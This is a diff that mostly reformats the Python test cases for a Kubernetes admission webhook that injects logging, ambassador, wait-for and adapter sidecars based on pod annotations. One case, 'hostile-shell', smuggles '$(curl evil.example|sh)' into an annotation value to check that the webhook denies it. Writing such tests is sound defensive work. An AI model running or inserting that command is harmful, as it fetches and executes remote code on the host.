@@ -64,7 +64,9 @@ class Case:
         return self.body_parts[0] + uid.encode() + self.body_parts[1]
 
 
-def _pod_review(annotations: Mapping[str, str] | None = None, *, namespace: str | None = None, edit: Callable[[dict[str, Any]], None] | None = None) -> dict[str, Any]:
+def _pod_review(
+    annotations: Mapping[str, str] | None = None, *, namespace: str | None = None, edit: Callable[[dict[str, Any]], None] | None = None
+) -> dict[str, Any]:
     review = reference_review()
     request = review["request"]
     request["object"]["metadata"].setdefault("annotations", {}).update(annotations or {})
@@ -91,8 +93,15 @@ def _deployment(review: dict[str, Any]) -> None:
     request["object"] = {
         "apiVersion": "apps/v1",
         "kind": "Deployment",
-        "metadata": {"name": "checkout", "namespace": pod["metadata"].get("namespace", "shop"), "annotations": pod["metadata"]["annotations"]},
-        "spec": {"selector": {"matchLabels": {"app": "checkout"}}, "template": {"metadata": {"labels": {"app": "checkout"}}, "spec": pod["spec"]}},
+        "metadata": {
+            "name": "checkout",
+            "namespace": pod["metadata"].get("namespace", "shop"),
+            "annotations": pod["metadata"]["annotations"],
+        },
+        "spec": {
+            "selector": {"matchLabels": {"app": "checkout"}},
+            "template": {"metadata": {"labels": {"app": "checkout"}}, "spec": pod["spec"]},
+        },
     }
 
 
@@ -117,25 +126,88 @@ def cases() -> list[Case]:
     return [
         Case("no-annotations", _pod_review(), "allow", weight=8),
         Case("logging", _pod_review({P + "logging": "true"}), "inject", ("entourage-logging",), weight=3),
-        Case("logging-fluent-bit-paths", _pod_review({P + "logging": "fluent-bit", P + "logging-paths": "/var/log/app,/srv/logs"}), "inject", ("entourage-logging",)),
-        Case("ambassador", _pod_review({P + "ambassador": "6379=redis.cache.svc.cluster.local:6379"}), "inject", ("entourage-ambassador-6379",), weight=2),
-        Case("ambassador-tls-two-routes", _pod_review({P + "ambassador": "tls://api.example.com:443,15432=db.example.com:5432"}), "inject", ("entourage-ambassador-443", "entourage-ambassador-15432")),
-        Case("wait-for", _pod_review({P + "wait-for": "dns://my-db-service,tcp://my-db-service:5432,http://search:9200/_cluster/health", P + "wait-for-timeout": "2m"}), "inject",
-             ("entourage-wait-my-db-service", "entourage-wait-my-db-service-5432", "entourage-wait-search-9200-cluster-health"), weight=2),  # fmt: skip
-        Case("adapter", _pod_review({P + "adapter": "nginx-prometheus", P + "adapter.nginx-prometheus.status-port": "8081"}), "inject", ("entourage-adapter-nginx-prometheus",)),
-        Case("combination", _pod_review({P + "logging": "true", P + "ambassador": "6379=redis:6379", P + "wait-for": "tcp://db:5432", P + "adapter": "statsd-prometheus"}), "inject",
-             ("entourage-wait-db-5432", "entourage-ambassador-6379", "entourage-logging", "entourage-adapter-statsd-prometheus"), weight=2),  # fmt: skip
-        Case("combination-native", _pod_review({P + "native-sidecars": "true", P + "logging": "true", P + "ambassador": "6379=redis:6379", P + "logging-cpu-limit": "200m"}), "inject",
-             ("entourage-ambassador-6379", "entourage-logging")),  # fmt: skip
+        Case(
+            "logging-fluent-bit-paths",
+            _pod_review({P + "logging": "fluent-bit", P + "logging-paths": "/var/log/app,/srv/logs"}),
+            "inject",
+            ("entourage-logging",),
+        ),
+        Case(
+            "ambassador",
+            _pod_review({P + "ambassador": "6379=redis.cache.svc.cluster.local:6379"}),
+            "inject",
+            ("entourage-ambassador-6379",),
+            weight=2,
+        ),
+        Case(
+            "ambassador-tls-two-routes",
+            _pod_review({P + "ambassador": "tls://api.example.com:443,15432=db.example.com:5432"}),
+            "inject",
+            ("entourage-ambassador-443", "entourage-ambassador-15432"),
+        ),
+        Case(
+            "wait-for",
+            _pod_review(
+                {
+                    P + "wait-for": "dns://my-db-service,tcp://my-db-service:5432,http://search:9200/_cluster/health",
+                    P + "wait-for-timeout": "2m",
+                }
+            ),
+            "inject",
+            ("entourage-wait-my-db-service", "entourage-wait-my-db-service-5432", "entourage-wait-search-9200-cluster-health"),
+            weight=2,
+        ),
+        Case(
+            "adapter",
+            _pod_review({P + "adapter": "nginx-prometheus", P + "adapter.nginx-prometheus.status-port": "8081"}),
+            "inject",
+            ("entourage-adapter-nginx-prometheus",),
+        ),
+        Case(
+            "combination",
+            _pod_review(
+                {
+                    P + "logging": "true",
+                    P + "ambassador": "6379=redis:6379",
+                    P + "wait-for": "tcp://db:5432",
+                    P + "adapter": "statsd-prometheus",
+                }
+            ),
+            "inject",
+            ("entourage-wait-db-5432", "entourage-ambassador-6379", "entourage-logging", "entourage-adapter-statsd-prometheus"),
+            weight=2,
+        ),
+        Case(
+            "combination-native",
+            _pod_review(
+                {P + "native-sidecars": "true", P + "logging": "true", P + "ambassador": "6379=redis:6379", P + "logging-cpu-limit": "200m"}
+            ),
+            "inject",
+            ("entourage-ambassador-6379", "entourage-logging"),
+        ),
         Case("host-network", _pod_review({P + "wait-for": "tcp://db:5432"}, edit=_hostnetwork), "inject", ("entourage-wait-db-5432",)),
         Case("large-pod", _pod_review({P + "logging": "true"}, edit=_large), "inject", ("entourage-logging",)),
         Case("opted-out", _pod_review({P + "inject": "false", P + "logging": "true"}), "allow"),
-        Case("already-injected", _pod_review({P + "logging": "true", P + "status": '{"version":1,"containers":["entourage-logging"]}'}), "allow"),
+        Case(
+            "already-injected",
+            _pod_review({P + "logging": "true", P + "status": '{"version":1,"containers":["entourage-logging"]}'}),
+            "allow",
+        ),
         Case("invalid-wait-for", _pod_review({P + "wait-for": "???"}), "deny", deny_mentions=P + "wait-for"),
         Case("invalid-typo", _pod_review({P + "loging": "true"}), "deny", deny_mentions=P + "loging"),
-        Case("hostile-shell", _pod_review({P + "ambassador": "6379=redis:6379;$(curl evil.example|sh)"}), "deny", deny_mentions=P + "ambassador"),
+        Case(
+            "hostile-shell",
+            _pod_review({P + "ambassador": "6379=redis:6379;$(curl evil.example|sh)"}),
+            "deny",
+            deny_mentions=P + "ambassador",
+        ),
         Case("hostile-lookalike", _pod_review({P + "wait-for": "db：5432"}), "deny", deny_mentions=P + "wait-for"),
-        Case("invalid-too-many-routes", _pod_review({P + "ambassador": ",".join(f"{20000 + i}=svc{i}:80" for i in range(40))}), "deny", deny_mentions=P + "ambassador"),
+        Case(
+            "invalid-too-many-routes",
+            _pod_review({P + "ambassador": ",".join(f"{20000 + i}=svc{i}:80" for i in range(40))}),
+            "deny",
+            deny_mentions=P + "ambassador",
+        ),
         Case("not-a-pod", _pod_review({P + "logging": "true"}, edit=_deployment), "allow"),
         Case("update", _pod_review({P + "logging": "true"}, edit=_update), "allow", weight=2),
         Case("dry-run", _pod_review({P + "logging": "true"}, edit=_dry_run), "inject", ("entourage-logging",)),
